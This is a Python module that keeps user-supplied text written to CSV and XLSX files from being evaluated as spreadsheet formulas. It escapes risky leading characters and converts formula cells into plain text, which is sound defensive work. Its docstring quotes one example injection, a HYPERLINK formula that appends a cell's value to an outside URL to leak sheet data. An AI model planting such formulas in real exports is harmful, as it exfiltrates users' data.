"""Spreadsheet and CSV cells written from user data never become formulas.

A unit name, a narrative or a comment is typed by users; written as it is, a text starting
with ``=`` is a live formula in the XLSX (``=HYPERLINK("http://…?leak="&A1, …)`` sends the
sheet's figures away when clicked), and in a CSV Excel and LibreOffice evaluate anything
starting with ``= + - @`` or a tab/carriage return. Every writer of XLSX or CSV goes through
here:

- XLSX: :func:`neutralise_workbook` just before saving marks every formula cell as a plain
  string, so the text is kept exactly (a reporter's narrative round-trips through the offline
  form) but shown, never evaluated. Numbers, dates and booleans keep their types.
- CSV: :func:`csv_row` prefixes such texts with ``'`` (the convention both spreadsheet programs
  hide); numbers (values of number types, or texts that are just a number such as ``-3,5``)
  are left as they are, so they stay numbers.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d.,\s]*%?")


def csv_text(value: str) -> str:
    """``value`` safe for a CSV cell: a leading ``'`` when a spreadsheet would evaluate it."""
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_cell(value: Any) -> Any:
    """A CSV cell: texts through :func:`csv_text`, every other value unchanged."""
    return csv_text(value) if isinstance(value, str) else value


def csv_row(values: Iterable[Any]) -> list[Any]:
    """One CSV record with every text cell neutralised (for ``csv.writer.writerow``)."""
    return [csv_cell(v) for v in values]


def neutralise_workbook(workbook: Any) -> Any:
    """Turn every formula cell of an openpyxl ``workbook`` into a plain text cell; returns it.

    Call it right before ``workbook.save``: the writers of this project write data, never
    formulas, so any cell openpyxl took for a formula (a text starting with ``=``) came from a
    user. The text itself is kept unchanged.
    """
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    cell.data_type = "s"
    return workbook
